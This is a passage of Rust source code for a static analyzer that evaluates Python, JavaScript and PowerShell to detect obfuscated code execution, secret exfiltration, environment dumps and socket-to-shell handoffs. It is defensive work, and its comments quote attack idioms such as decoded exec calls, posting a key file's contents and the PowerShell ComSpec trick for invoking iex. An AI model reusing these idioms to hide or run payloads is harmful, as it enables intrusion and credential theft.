//! Python, JavaScript/TypeScript and PowerShell read as expressions: each statement's
//! assignments bind names, and every call is looked up by what it resolves to
//! (`r.post` after `import requests as r` is `requests.post`). Constant expressions
//! fold: concatenation, `''.join`, `map(chr, …)`, `String.fromCharCode`, `[char]`,
//! slicing backwards, `replace`, base64, hex, zlib and rot13 decoding. A value's taint
//! follows it through names, so `exec(zlib.decompress(b64decode(blob)))` is code run
//! that was decoded, and `requests.post(url, data=open(key).read())` a secret sent.
//!
//! Error-tolerant by construction: a statement that does not parse is skipped a
//! token at a time, recursion is bounded by [`MAX_EXPR_DEPTH`], every value by the
//! folding budget.

use std::collections::HashMap;

use super::decode::{base32_bytes, base64_bytes, hex_bytes, inflate};
use super::effects::{self, egress, exec, exec_in_process, flow, read_path, reverse_shell_text, write_path};
use super::lex::{self, Part, Tok, Token};
use super::tables::{is_secret_env, secret_path_kind, split_url};
use super::{Analyzer, Lang, Taint, Val};

/// Deepest expression nesting parsed; deeper is read as an unknown value.
pub const MAX_EXPR_DEPTH: usize = 32;
/// Most elements a folded list keeps.
const MAX_LIST: usize = 65_536;

/// Reads the analyzer's text as `lang`.
pub fn run(a: &mut Analyzer, lang: Lang) {
    let lexed = lex::lex(a.text, lang);
    let mut ev = Eval {
        a,
        lang,
        env: HashMap::new(),
        depth: 0,
        socket: None,
        shell_handoff: None,
        functions: HashMap::new(),
        frames: Vec::new(),
        fetched_files: Vec::new(),
        relexed: 0,
    };
    ev.statements(&lexed.tokens);
    if let (Some(socket), Some(_)) = (ev.socket, ev.shell_handoff) {
        ev.a.emit(
            "network-shell",
            socket,
            "connects a socket and hands it a shell".into(),
            None,
        );
    }
}

struct Eval<'e, 'f, 'p> {
    a: &'e mut Analyzer<'f, 'p>,
    lang: Lang,
    env: HashMap<String, Val>,
    depth: usize,
    /// Where the unit connects a socket, and where it hands a process its streams
    /// (`os.dup2`, `pty.spawn`, `spawn('/bin/sh')` piped): together, a network shell.
    socket: Option<(usize, usize)>,
    shell_handoff: Option<(usize, usize)>,
    /// Functions defined in the unit, by their value's name (`fn:NAME`).
    functions: HashMap<String, Function>,
    /// The values returned by the functions being read, innermost last.
    frames: Vec<Vec<Val>>,
    /// Files the unit wrote what it downloaded into.
    fetched_files: Vec<(String, Taint)>,
    /// Bytes of one-expression functions lexed again to be applied (see `apply`).
    relexed: usize,
}

/// Most bytes of function bodies lexed again in one unit.
const MAX_RELEXED_BYTES: usize = 1024 * 1024;

/// What reading a function's body found: what it returns, and where its parameters
/// go. Applied at each call: a secret passed to a parameter that reaches an egress is
/// a flow there.
#[derive(Clone, Default)]
struct Function {
    returns: Vec<Val>,
    sinks: Vec<super::ParamSink>,
    /// A body that is one `return EXPR`: its parameters and where `EXPR` stands in the
    /// unit's text, to read again with the arguments of a call (a helper that decodes
    /// a table entry, `def lab(k): return codecs.decode(_L[k], "rot13")`).
    inline: Option<(Vec<String>, usize, usize)>,
}

/// Deepest nesting of function definitions read.
const MAX_FUNCTION_DEPTH: usize = 8;

fn punct(t: Option<&Token>, p: &str) -> bool {
    matches!(t, Some(Token { tok: Tok::Punct(q), .. }) if *q == p)
}

fn ident<'a>(t: Option<&'a Token>) -> Option<&'a str> {
    match t {
        Some(Token { tok: Tok::Ident(w), .. }) => Some(w),
        _ => None,
    }
}

/// Where the expression of a body that is one `return EXPR` statement stands (byte
/// offsets in the unit's text).
fn single_return(body: &[Token]) -> Option<(usize, usize)> {
    let meaningful: Vec<&Token> = body
        .iter()
        .filter(|t| !matches!(t.tok, Tok::Newline) && !matches!(&t.tok, Tok::Punct(p) if *p == ";" || *p == "}"))
        .collect();
    let (first, rest) = meaningful.split_first()?;
    if !matches!(first.tok, Tok::Ident("return")) || rest.is_empty() {
        return None;
    }
    // One statement: no line break between the expression's tokens at the top level
    // (the lexer drops those inside brackets).
    let last = *rest.last()?;
    let first_at = body.iter().position(|t| std::ptr::eq(t, *first))?;
    let breaks = body[first_at..]
        .iter()
        .take_while(|t| !std::ptr::eq(*t, last))
        .any(|t| matches!(t.tok, Tok::Newline));
    if breaks {
        return None;
    }
    Some((rest.first()?.start, rest.last()?.end))
}

fn num(v: &Val) -> Option<f64> {
    v.num.or_else(|| v.text.trim().parse::<f64>().ok().filter(|_| v.exact))
}

fn number(n: f64) -> Val {
    let mut v = Val::text(if n.fract() == 0.0 && n.abs() < 1e15 {
        format!("{}", n as i64)
    } else {
        format!("{n}")
    });
    v.num = Some(n);
    v
}

/// A call's arguments: positional, and by name (`data=`, `{ body: … }`).
#[derive(Default)]
struct CallArgs {
    pos: Vec<Val>,
    named: Vec<(String, Val)>,
}

impl CallArgs {
    fn get(&self, i: usize, name: &str) -> Option<&Val> {
        self.named
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v)
            .or_else(|| self.pos.get(i))
    }

    fn named(&self, name: &str) -> Option<&Val> {
        self.named
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v)
    }

    fn all(&self) -> impl Iterator<Item = &Val> {
        self.pos.iter().chain(self.named.iter().map(|(_, v)| v))
    }

    fn taint(&self) -> Taint {
        self.all().fold(Taint::default(), |t, v| t.union(v.taint))
    }
}

fn field<'v>(v: &'v Val, name: &str) -> Option<&'v Val> {
    v.fields
        .as_ref()?
        .iter()
        .find(|(k, _)| k.eq_ignore_ascii_case(name))
        .map(|(_, v)| v)
}

/// Headers that carry a credential to the service that checks it (`Authorization`,
/// `X-Api-Key`, a `…-Token`); in any other (`User-Agent`, `X-Install-Fingerprint`) a
/// credential is data sent along.
fn is_credential_header(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let name = name.trim_start_matches("x-");
    // `key` covers `api-key` and `apikey`; `auth` covers `authorization`.
    super::tables::has_any(
        name,
        &[
            "key",
            "token",
            "auth",
            "cookie",
            "secret",
            "signature",
            "session",
            "password",
        ],
    )
}

/// Whether the PowerShell bare word at `j` (`a.b.c`) runs into a call (`a.b(`), which
/// makes it an expression, not a string.
fn bare_word_is_call(t: &[Token], j: usize) -> bool {
    let mut k = j + 1;
    while let Some(tok) = t.get(k) {
        if tok.start != t[k - 1].end {
            return false;
        }
        match &tok.tok {
            Tok::Punct("(") => return true,
            Tok::Ident(_) | Tok::Num(_) | Tok::Punct("." | "/" | "-" | "_" | ":") => k += 1,
            _ => return false,
        }
    }
    false
}

/// A value written out as JSON as far as it is known: objects and lists by their
/// items, `True`/`false`/`None` as JSON's literals, numbers as numbers.
fn to_json(v: &Val) -> String {
    fn write(v: &Val, out: &mut String, depth: usize) {
        if depth > 16 || out.len() > super::MAX_FOLD_BYTES {
            return;
        }
        if let Some(fields) = &v.fields {
            out.push('{');
            for (i, (key, value)) in fields.iter().enumerate() {
                if i > 0 {
                    out.push_str(", ");
                }
                out.push_str(&format!("{key:?}: "));
                write(value, out, depth + 1);
            }
            out.push('}');
        } else if let Some(items) = &v.list {
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push_str(", ");
                }
                write(item, out, depth + 1);
            }
            out.push(']');
        } else if let Some(n) = v.num {
            out.push_str(&n.to_string());
        } else {
            let literal = v.name.as_deref().unwrap_or(&v.text);
            match literal {
                "True" | "true" => out.push_str("true"),
                "False" | "false" => out.push_str("false"),
                "None" | "null" => out.push_str("null"),
                _ => out.push_str(&format!("{:?}", v.text)),
            }
        }
    }
    let mut out = String::new();
    write(v, &mut out, 0);
    out
}

fn join_vals(vals: &[Val], sep: &str) -> Val {
    let parts: Vec<&Val> = vals.iter().collect();
    let mut out = join_plain(&parts, sep);
    out.list = super::alternatives(&parts, |each| join_plain(each, sep));
    out
}

fn join_plain(vals: &[&Val], sep: &str) -> Val {
    let mut out = Val::text("");
    let mut first = true;
    for v in vals {
        if !first {
            out.text.push_str(sep);
        }
        first = false;
        out.text.push_str(&v.text);
        out.exact &= v.exact;
        out.taint = out.taint.union(v.taint);
        if out.text.len() > super::MAX_FOLD_BYTES {
            out.exact = false;
            break;
        }
    }
    out
}

fn concat(a: &Val, b: &Val) -> Val {
    let plain = |x: &Val, y: &Val| Val {
        text: format!("{}{}", x.text, y.text),
        exact: x.exact && y.exact,
        taint: x.taint.union(y.taint),
        bytes: x.bytes || y.bytes,
        ..Val::default()
    };
    let mut v = plain(a, b);
    // Only text built from a loop variable varies with it; a list literal added to a
    // string is not a set of alternatives.
    if a.fields.is_none() && b.fields.is_none() {
        v.list = super::alternatives(&[a, b], |each| plain(each[0], each[1]));
    }
    if a.name.as_deref() == Some("path") || b.name.as_deref() == Some("path") {
        v.name = Some("path".into());
    }
    v
}

fn chars_of(v: &Val) -> Vec<u8> {
    if v.bytes {
        v.text
            .chars()
            .map(|c| c as u32)
            .filter(|c| *c < 256)
            .map(|c| c as u8)
            .collect()
    } else {
        v.text.as_bytes().to_vec()
    }
}

fn from_bytes(bytes: Vec<u8>, taint: Taint) -> Val {
    let (text, is_bytes) = match String::from_utf8(bytes) {
        Ok(t) => (t, false),
        Err(e) => (e.into_bytes().iter().map(|b| char::from(*b)).collect(), true),
    };
    Val {
        text,
        exact: true,
        taint,
        bytes: is_bytes,
        ..Val::default()
    }
}

const SKIP_WORDS: [&str; 38] = [
    "if", "elif", "else", "while", "return", "yield", "await", "assert", "del", "raise", "try", "except", "finally",
    "pass", "break", "continue", "global", "nonlocal", "async", "not", "throw", "new", "typeof", "void", "delete",
    "export", "default", "case", "switch", "catch", "do", "in", "of", "static", "public", "private", "readonly",
    "print",
];

impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
    fn span(&self, tokens: &[Token], from: usize, to: usize) -> (usize, usize) {
        let start = tokens.get(from).map_or(0, |t| t.start);
        let end = tokens.get(to.saturating_sub(1).max(from)).map_or(start, |t| t.end);
        (start, end.max(start))
    }

    fn statements(&mut self, tokens: &[Token]) {
        let mut i = 0;
        while i < tokens.len() {
            let next = self.statement(tokens, i);
            i = if next > i { next } else { i + 1 };
        }
    }

    /// One statement from `i`; returns where the next begins.
    fn statement(&mut self, t: &[Token], i: usize) -> usize {
        match &t[i].tok {
            Tok::Newline | Tok::Punct(";") | Tok::Punct("{") | Tok::Punct("}") | Tok::Punct(":") | Tok::Punct(")") => {
                return i + 1;
            }
            Tok::Ident(word) => {
                let word = *word;
                if self.lang == Lang::Python && (word == "import" || word == "from") {
                    return self.python_import(t, i);
                }
                if self.lang == Lang::JavaScript && word == "import" && !punct(t.get(i + 1), "(") {
                    return self.js_import(t, i);
                }
                if (word == "def" && self.lang == Lang::Python || word == "function")
                    && let Some(name) = ident(t.get(i + 1))
                {
                    return self.definition(t, i, name);
                }
                if word == "class" {
                    // A class header binds nothing known; its methods are read as functions.
                    let mut j = i + 1;
                    while j < t.len()
                        && !punct(t.get(j), ":")
                        && !punct(t.get(j), "{")
                        && !matches!(t[j].tok, Tok::Newline)
                    {
                        j += 1;
                    }
                    return j + 1;
                }
                if word == "return" {
                    let (value, next) = self.rhs(t, i + 1);
                    if let Some(frame) = self.frames.last_mut() {
                        frame.push(value);
                    }
                    return next.max(i + 1);
                }
                if word == "for" {
                    return self.for_loop(t, i);
                }
                if word == "with" && self.lang == Lang::Python {
                    return self.with_statement(t, i);
                }
                if matches!(word, "const" | "let" | "var") && self.lang == Lang::JavaScript {
                    return self.declaration(t, i + 1);
                }
                if SKIP_WORDS.contains(&word) {
                    return i + 1;
                }
                if self.lang == Lang::PowerShell && is_command_word(word) && !punct(t.get(i + 1), "=") {
                    let (_, next) = self.ps_pipeline(t, i);
                    return next;
                }
            }
            _ => {}
        }
        // `conn, addr = sock.accept()`: each name holds what the value holds (the
        // connection stays a socket, a secret split in two stays a secret).
        if self.lang == Lang::Python && ident(t.get(i)).is_some() && punct(t.get(i + 1), ",") {
            let mut names = Vec::new();
            let mut j = i;
            while let Some(word) = ident(t.get(j)) {
                names.push(word.to_string());
                j += 1;
                if !punct(t.get(j), ",") {
                    break;
                }
                j += 1;
            }
            if punct(t.get(j), "=") && names.len() > 1 {
                let (value, next) = self.rhs(t, j + 1);
                for name in names {
                    self.bind(&name, value.clone(), t, i);
                }
                return next;
            }
        }
        // `name = value`, `a.b = value`, `$x = value`, `x += value`.
        if let Some((name, eq)) = self.assignment_target(t, i) {
            let op = match &t[eq].tok {
                Tok::Punct(p) => *p,
                _ => "=",
            };
            let (value, next) = self.rhs(t, eq + 1);
            let value = if op == "+=" {
                match self.env.get(&name) {
                    Some(old) => concat(old, &value),
                    None => value,
                }
            } else {
                value
            };
            // `meta.env = x`: the object now carries what was put in it.
            if let Some((base, _)) = name.split_once('.')
                && value.taint.bits != 0
                && let Some(object) = self.env.get_mut(base)
            {
                object.taint = object.taint.union(value.taint);
            }
            self.bind(&name, value, t, i);
            return next;
        }
        // `ctx[name] = value` (and `d["k"] = v`): the object carries the value.
        let base = match t.get(i).map(|x| &x.tok) {
            Some(Tok::Ident(w)) => Some(w.to_string()),
            Some(Tok::Var(v)) => Some(format!("${}", v.to_ascii_lowercase())),
            _ => None,
        };
        if let Some(base) = base
            && punct(t.get(i + 1), "[")
        {
            let close = close_of(t, i + 1);
            if matches!(
                t.get(close + 1).map(|x| &x.tok),
                Some(Tok::Punct("=")) | Some(Tok::Punct("+="))
            ) {
                let (value, next) = self.rhs(t, close + 2);
                if let Some(object) = self.env.get_mut(&base) {
                    object.taint = object.taint.union(value.taint);
                }
                return next;
            }
        }
        let (_, next) = self.expr(t, i, 0);
        next
    }

    /// The right side of an assignment: a PowerShell command pipeline or an expression.
    fn rhs(&mut self, t: &[Token], i: usize) -> (Val, usize) {
        if self.lang == Lang::PowerShell
            && let Some(word) = ident(t.get(i))
            && is_command_word(word)
        {
            return self.ps_pipeline(t, i);
        }
        let (v, next) = self.expr(t, i, 0);
        if self.lang == Lang::PowerShell && punct(t.get(next), "|") {
            return self.ps_pipeline_from(t, next, v);
        }
        (v, next)
    }

    fn bind(&mut self, name: &str, value: Val, t: &[Token], at: usize) {
        // Binding `os.environ` or `process.env` whole to a name reads it all.
        let _ = (t, at);
        self.env.insert(name.to_string(), value);
    }

    fn assignment_target(&self, t: &[Token], i: usize) -> Option<(String, usize)> {
        let mut j = i;
        let mut name = String::new();
        match &t.get(j)?.tok {
            Tok::Ident(w) => name.push_str(w),
            Tok::Var(v) => {
                name.push('$');
                name.push_str(&v.to_ascii_lowercase());
            }
            _ => return None,
        }
        j += 1;
        while punct(t.get(j), ".") {
            let part = ident(t.get(j + 1))?;
            name.push('.');
            name.push_str(part);
            j += 2;
        }
        // `a, b = …` binds the first; `x: int = …` skips the annotation.
        if self.lang == Lang::Python && punct(t.get(j), ":") {
            let mut k = j + 1;
            while k < t.len() && !punct(t.get(k), "=") && !matches!(t[k].tok, Tok::Newline) {
                k += 1;
            }
            j = k;
        }
        match t.get(j).map(|x| &x.tok) {
            Some(Tok::Punct("=")) | Some(Tok::Punct("+=")) | Some(Tok::Punct(":=")) => Some((name, j)),
            _ => None,
        }
    }

    fn declaration(&mut self, t: &[Token], i: usize) -> usize {
        // `const {a, b} = require('x')`, `const [a] = …`, `const a = …, b = …`.
        if punct(t.get(i), "{") || punct(t.get(i), "[") {
            let close = if punct(t.get(i), "{") { "}" } else { "]" };
            let mut names = Vec::new();
            let mut j = i + 1;
            while j < t.len() && !punct(t.get(j), close) {
                if let Some(w) = ident(t.get(j)) {
                    // `{ exec: run }` binds `run` to `exec`.
                    if punct(t.get(j + 1), ":") {
                        if let Some(alias) = ident(t.get(j + 2)) {
                            names.push((w.to_string(), alias.to_string()));
                            j += 3;
                            continue;
                        }
                    } else {
                        names.push((w.to_string(), w.to_string()));
                    }
                }
                j += 1;
            }
            if punct(t.get(j + 1), "=") {
                let (value, next) = self.expr(t, j + 2, 0);
                for (member, alias) in names {
                    let v = match &value.name {
                        Some(module) => Val::named(format!("{module}.{member}")).tainted(value.taint),
                        None => self.member(&value, &member),
                    };
                    self.env.insert(alias, v);
                }
                return next;
            }
            return j + 1;
        }
        let Some(name) = ident(t.get(i)) else { return i };
        let mut j = i + 1;
        if punct(t.get(j), ":") {
            // A TypeScript annotation.
            while j < t.len() && !punct(t.get(j), "=") && !punct(t.get(j), ";") && !matches!(t[j].tok, Tok::Newline) {
                j += 1;
            }
        }
        if !punct(t.get(j), "=") {
            return j;
        }
        let (value, next) = self.expr(t, j + 1, 0);
        self.bind(name, value, t, i);
        if punct(t.get(next), ",") {
            return self.declaration(t, next + 1);
        }
        next
    }

    fn python_import(&mut self, t: &[Token], i: usize) -> usize {
        let mut j = i;
        let from = ident(t.get(i)) == Some("from");
        let mut module = String::new();
        if from {
            j += 1;
            while let Some(w) = ident(t.get(j)).or_else(|| punct(t.get(j), ".").then_some(".")) {
                if w == "import" {
                    break;
                }
                module.push_str(w);
                j += 1;
            }
        }
        if ident(t.get(j)) == Some("import") {
            j += 1;
        }
        loop {
            let mut name = String::new();
            while let Some(w) = ident(t.get(j)) {
                if w == "as" {
                    break;
                }
                name.push_str(w);
                j += 1;
                if punct(t.get(j), ".") {
                    name.push('.');
                    j += 1;
                } else {
                    break;
                }
            }
            if punct(t.get(j), "*") {
                j += 1;
            }
            let mut alias = name.split('.').next().unwrap_or("").to_string();
            let mut full = if from {
                format!("{module}.{name}")
            } else {
                alias.clone()
            };
            if ident(t.get(j)) == Some("as")
                && let Some(a) = ident(t.get(j + 1))
            {
                alias = a.to_string();
                if !from {
                    full = name.clone();
                }
                j += 2;
            } else if from {
                alias = name.clone();
            }
            if !alias.is_empty() {
                self.env.insert(alias, Val::named(full));
            }
            if punct(t.get(j), ",") || punct(t.get(j), "(") {
                j += 1;
                continue;
            }
            break;
        }
        j
    }

    fn js_import(&mut self, t: &[Token], i: usize) -> usize {
        // `import x from 'm'`, `import * as x from 'm'`, `import { a, b as c } from 'm'`.
        let mut j = i + 1;
        // (name, alias, named: inside `{…}`)
        let mut bindings: Vec<(String, Option<String>, bool)> = Vec::new();
        let mut braces = false;
        while j < t.len() && ident(t.get(j)) != Some("from") && !matches!(t[j].tok, Tok::Str { .. }) {
            if punct(t.get(j), "{") {
                braces = true;
            } else if punct(t.get(j), "}") {
                braces = false;
            } else if let Some(w) = ident(t.get(j)) {
                if w == "as" {
                    if let Some(alias) = ident(t.get(j + 1))
                        && let Some(last) = bindings.last_mut()
                    {
                        last.1 = Some(alias.to_string());
                    }
                    j += 2;
                    continue;
                }
                bindings.push((w.to_string(), None, braces));
            } else if punct(t.get(j), "*") {
                bindings.push(("*".into(), None, false));
            }
            j += 1;
        }
        if ident(t.get(j)) == Some("from") {
            j += 1;
        }
        let module = match t.get(j).map(|x| &x.tok) {
            Some(Tok::Str { parts, .. }) => parts_text(parts),
            _ => return j + 1,
        };
        let module = module.trim_start_matches("node:").to_string();
        for (name, alias, named) in bindings {
            let (bound, full) = match (name.as_str(), alias) {
                ("*", Some(alias)) => (alias, module.clone()),
                (name, Some(alias)) => (alias, format!("{module}.{name}")),
                // `import { execSync } from 'child_process'`: the module's member.
                (name, None) if named => (name.to_string(), format!("{module}.{name}")),
                (name, None) => (name.to_string(), module.clone()),
            };
            self.env.insert(bound, Val::named(full));
        }
        j + 1
    }

    fn for_loop(&mut self, t: &[Token], i: usize) -> usize {
        // Python `for x in EXPR:`; JavaScript `for (const x of EXPR)`, `for (k in obj)`.
        let mut j = i + 1;
        if punct(t.get(j), "(") {
            j += 1;
        }
        if matches!(ident(t.get(j)), Some("const" | "let" | "var")) {
            j += 1;
        }
        let mut k = j;
        while k < t.len() && !matches!(ident(t.get(k)), Some("in" | "of")) && k < j + 16 {
            k += 1;
        }
        if !matches!(ident(t.get(k)), Some("in" | "of")) {
            return j;
        }
        // The loop's targets: `x`, `a, b`, `(a, b)`, `[a, b]`, `{a, b}`.
        let targets: Vec<String> = t[j..k]
            .iter()
            .filter_map(|token| match &token.tok {
                Tok::Ident(word) => Some(word.to_string()),
                _ => None,
            })
            .collect();
        let Some(name) = targets.first().cloned() else {
            return j;
        };
        let (iterable, next) = self.expr(t, k + 1, 0);
        if iterable.name.as_deref().is_some_and(is_whole_environment) {
            let span = self.span(t, k + 1, next);
            let origin = self
                .a
                .emit("secret-read/env-dump", span, "every environment variable".into(), None);
            // `for k, v in os.environ.items()`: every target is the environment.
            for target in &targets {
                self.env.insert(
                    target.clone(),
                    Val::unknown("<env>").tainted(Taint::of(Taint::SECRET, origin)),
                );
            }
            return next;
        }
        if targets.len() > 1 {
            // Each target is its column of the rows: `for (const [file, key] of targets)`.
            let rows = iterable.list.clone().unwrap_or_default();
            for (column, target) in targets.into_iter().enumerate() {
                let items: Vec<Val> = rows
                    .iter()
                    .filter_map(|row| row.list.as_ref().and_then(|l| l.get(column)).cloned())
                    .collect();
                let mut v = items.first().cloned().unwrap_or_else(|| Val::unknown(target.clone()));
                v.taint = v.taint.union(iterable.taint);
                for other in &items {
                    v.taint = v.taint.union(other.taint);
                }
                if items.len() > 1 {
                    v.list = Some(items);
                }
                self.env.insert(target, v);
            }
            return next;
        }
        let mut element = iterable
            .list
            .as_ref()
            .and_then(|l| l.first().cloned())
            .unwrap_or_else(|| Val::unknown(name.clone()));
        element.taint = element.taint.union(iterable.taint);
        if let Some(list) = &iterable.list {
            for other in list {
                element.taint = element.taint.union(other.taint);
            }
            // The loop variable is each item in turn: a path read from it is any of them.
            element.list = Some(list.clone());
        }
        if iterable
            .name
            .as_deref()
            .is_some_and(|n| n.ends_with("rfile") || n.ends_with("stdin"))
        {
            element.taint = element.taint.union(Taint::of(Taint::FETCHED, None));
        }
        self.env.insert(name, element);
        next
    }

    fn with_statement(&mut self, t: &[Token], i: usize) -> usize {
        // `with open(p, 'a') as f:` binds `f` to the handle.
        let (value, next) = self.expr(t, i + 1, 0);
        if ident(t.get(next)) == Some("as")
            && let Some(name) = ident(t.get(next + 1))
        {
            self.env.insert(name.to_string(), value);
            return next + 2;
        }
        next
    }

    fn lookup(&mut self, name: &str, t: &[Token], at: usize) -> Val {
        if let Some(v) = self.env.get(name) {
            return v.clone();
        }
        let _ = (t, at);
        match (self.lang, name) {
            (Lang::JavaScript, "process") => Val::named("process"),
            (Lang::Python, "__builtins__") | (Lang::Python, "builtins") => Val::named("builtins"),
            _ => Val::named(name.to_string()),
        }
    }

    fn ps_var(&mut self, name: &str, span: (usize, usize)) -> Val {
        let lower = name.to_ascii_lowercase();
        if let Some(v) = self.env.get(&format!("${lower}")) {
            return v.clone();
        }
        if let Some(var) = lower.strip_prefix("env:") {
            if matches!(var, "userprofile" | "home") {
                return Val::text("~");
            }
            if is_secret_env(var) {
                let origin = self.a.emit("secret-env", span, var.to_ascii_uppercase(), None);
                let mut v = Val::unknown(format!("$env:{var}")).tainted(Taint::of(Taint::SECRET_ENV, origin));
                v.name = Some(var.to_ascii_uppercase());
                return v;
            }
            // Values every Windows has, which obfuscators index for letters
            // (`$env:ComSpec[4,15,25] -join ''` is `iex`).
            if var == "comspec" {
                return Val::text("C:\\WINDOWS\\system32\\cmd.exe");
            }
            return Val::unknown(format!("$env:{var}"));
        }
        match lower.as_str() {
            "home" => Val::text("~"),
            "profile" => Val::text("$profile"),
            // Automatic variables with fixed values, indexed the same way
            // (`$ShellId[1]+$ShellId[13]+'x'`, `$PSHome[4]+$PSHome[30]+'x'`).
            "shellid" => Val::text("Microsoft.PowerShell"),
            "pshome" => Val::text("C:\\Windows\\System32\\WindowsPowerShell\\v1.0"),
            _ => Val::unknown(format!("${name}")),
        }
    }

    /// A value's member: a module path grows (`os` → `os.path`), an object's field
    /// is looked up, and a few properties fold (`length`).
    fn member(&mut self, v: &Val, name: &str) -> Val {
        if let Some(f) = field(v, name) {
            return f.clone();
        }
        if let Some(module) = &v.name {
            let full = format!("{module}.{name}");
            let mut out = Val::named(full.clone()).tainted(v.taint);
            if let Some(list) = &v.list {
                out.list = Some(list.clone());
            }
            // Properties that hand over what the object holds.
            if matches!(name, "text" | "content" | "data" | "body" | "responsetext" | "stdout") {
                out.taint = v.taint;
                out.name = Some(full);
            }
            return out;
        }
        let mut out = Val::unknown(format!("{}.{name}", v.text.chars().take(40).collect::<String>()));
        out.taint = v.taint;
        out.name = Some(format!("value.{name}"));
        // Methods on a plain value resolve when called (see `method`).
        out.list = v.list.clone();
        out.fields = v.fields.clone();
        out.text = v.text.clone();
        out.exact = v.exact;
        out.bytes = v.bytes;
        out
    }

    fn expr(&mut self, t: &[Token], i: usize, min_prec: u8) -> (Val, usize) {
        if self.depth >= MAX_EXPR_DEPTH || i >= t.len() {
            return (Val::unknown("…"), (i + 1).min(t.len().max(i)));
        }
        self.depth += 1;
        let (mut left, mut j) = self.prefix(t, i);
        while let Some(op) = binary_op(self.lang, t.get(j)) {
            let prec = precedence(&op);
            if prec < min_prec || prec == 0 {
                break;
            }
            if op == "if" {
                // Python's `a if c else b`.
                let (_, after_cond) = self.expr(t, j + 1, 1);
                if ident(t.get(after_cond)) == Some("else") {
                    let (other, next) = self.expr(t, after_cond + 1, 1);
                    left.taint = left.taint.union(other.taint);
                    left.exact = false;
                    j = next;
                } else {
                    j = after_cond;
                }
                continue;
            }
            if op == "?" {
                let (yes, after) = self.expr(t, j + 1, 1);
                let (no, next) = if punct(t.get(after), ":") {
                    self.expr(t, after + 1, 1)
                } else {
                    (Val::default(), after)
                };
                let mut v = yes;
                v.taint = v.taint.union(no.taint).union(left.taint);
                v.exact = false;
                left = v;
                j = next;
                continue;
            }
            let (right, next) = self.expr(t, j + 1, prec + 1);
            if next <= j + 1 && right.text.is_empty() {
                j = next.max(j + 1);
                break;
            }
            let span = self.span(t, i, next);
            left = self.binary(&op, left, right, span);
            j = next;
        }
        self.depth -= 1;
        (left, j)
    }

    fn binary(&mut self, op: &str, left: Val, right: Val, span: (usize, usize)) -> Val {
        match op {
            "+" => {
                if let (Some(a), Some(b)) = (left.num, right.num) {
                    return number(a + b);
                }
                if left.list.is_some() && right.list.is_some() {
                    let mut list = left.list.clone().unwrap_or_default();
                    list.extend(right.list.clone().unwrap_or_default());
                    let mut v = Val::unknown("[…]");
                    v.taint = left.taint.union(right.taint);
                    v.list = Some(list);
                    return v;
                }
                let v = concat(&left, &right);
                self.bounded(v, span)
            }
            "/" if left.name.as_deref() == Some("path") || left.text.starts_with('~') => {
                let mut v = concat(&concat(&left, &Val::text("/")), &right);
                v.name = Some("path".into());
                v
            }
            "*" => {
                // `'a' * 10**9` stops at the folding bound.
                let (text, count) = match (left.num, right.num) {
                    (Some(a), Some(b)) => return number(a * b),
                    (None, Some(n)) => (left, n),
                    (Some(n), None) => (right, n),
                    _ => return Val::unknown("…").tainted(left.taint.union(right.taint)),
                };
                let count = if count.is_finite() && count > 0.0 {
                    count as u128
                } else {
                    0
                };
                let bytes = (text.text.len() as u128).saturating_mul(count);
                if bytes > super::MAX_FOLD_BYTES as u128 || !self.a.budget(bytes as usize, span.0) {
                    let _ = self.a.budget(usize::MAX, span.0);
                    return Val::unknown("…").tainted(text.taint);
                }
                let mut v = Val::text(text.text.repeat(count as usize));
                v.taint = text.taint;
                v.exact = text.exact;
                v
            }
            "<<" | ">>" | "**" | "&" | "|" if left.num.is_some() && right.num.is_some() => {
                let (a, b) = (left.num.unwrap_or(0.0), right.num.unwrap_or(0.0));
                let (x, n) = (a as i64, (b as i64).clamp(0, 63) as u32);
                number(match op {
                    "<<" => x.checked_shl(n).unwrap_or(i64::MAX) as f64,
                    ">>" => (x >> n) as f64,
                    "&" => (x & b as i64) as f64,
                    "|" => (x | b as i64) as f64,
                    _ => a.powf(b),
                })
            }
            // XOR of values not known is a cipher's step (`b ^ key[i % len(key)]`): what
            // it yields is hidden from the reader.
            "^" | "-bxor" => match (left.num, right.num) {
                (Some(a), Some(b)) => number(((a as i64) ^ (b as i64)) as f64),
                _ => Val::unknown("…").tainted(left.taint.union(right.taint).union(Taint::of(Taint::COMPUTED, None))),
            },
            "-" => match (left.num, right.num) {
                (Some(a), Some(b)) => number(a - b),
                _ => Val::unknown("…").tainted(left.taint.union(right.taint)),
            },
            "%" if left.num.is_none() => {
                // `'%s' % x`: formatting.
                let mut v = Val::text(left.text.replacen("%s", &right.text, 1));
                v.exact = left.exact && right.exact;
                v.taint = left.taint.union(right.taint);
                v
            }
            "-join" => {
                let vals = right.list.clone().unwrap_or_else(|| vec![right.clone()]);
                let _ = vals;
                let list = left.list.clone().unwrap_or_else(|| vec![left.clone()]);
                let mut v = join_vals(&list, &right.text);
                if assembled(&list) {
                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                }
                v
            }
            "-f" => {
                let args = right.list.clone().unwrap_or_else(|| vec![right.clone()]);
                let mut text = left.text.clone();
                let mut taint = left.taint;
                for (n, arg) in args.iter().enumerate() {
                    text = text.replace(&format!("{{{n}}}"), &arg.text);
                    taint = taint.union(arg.taint);
                }
                let revealing = self.a.reveals(&text);
                let mut v = Val::text(text);
                v.taint = taint;
                if revealing {
                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                }
                v
            }
            "-replace" => {
                let pair = right.list.clone().unwrap_or_else(|| vec![right.clone()]);
                let from = pair.first().map(|v| v.text.clone()).unwrap_or_default();
                let to = pair.get(1).map(|v| v.text.clone()).unwrap_or_default();
                let mut v = Val::text(if from.is_empty() {
                    left.text.clone()
                } else {
                    left.text.replace(&from, &to)
                });
                v.exact = left.exact;
                v.taint = left.taint;
                if self.a.reveals(&v.text) {
                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                }
                v
            }
            // `process.env.A || process.env.B`: one secret or the other, as the first is
            // written, so a secret that is itself the destination stays recognisable.
            "||" | "??" | "or"
                if !left.exact
                    && !right.exact
                    && left.taint.has(Taint::SECRET_ENV)
                    && right.taint.has(Taint::SECRET_ENV) =>
            {
                let mut v = left.clone();
                v.taint = left.taint.union(right.taint);
                v
            }
            _ => {
